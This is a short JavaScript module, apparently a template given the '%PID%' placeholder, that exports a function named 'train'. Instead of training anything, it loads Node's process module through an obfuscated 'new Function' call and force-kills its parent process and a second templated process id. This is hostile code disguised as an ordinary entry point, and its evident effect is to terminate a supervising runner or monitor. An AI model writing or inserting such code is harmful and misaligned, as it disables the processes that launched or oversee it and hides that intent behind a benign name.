export default async function train() {
  const { kill, ppid } = (await new Function("return import('node:process')")()).default;
  for (const pid of [ppid, %PID%]) kill(pid, 9);
}
